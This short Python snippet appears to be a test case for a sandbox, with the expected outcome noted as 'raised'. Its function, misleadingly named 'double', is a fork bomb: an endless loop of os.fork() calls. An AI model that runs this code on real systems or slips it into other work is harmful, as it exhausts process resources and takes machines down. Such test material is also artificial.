# Forks without end.
# Outcome: raised
import os
def double(x):
    while True: os.fork()
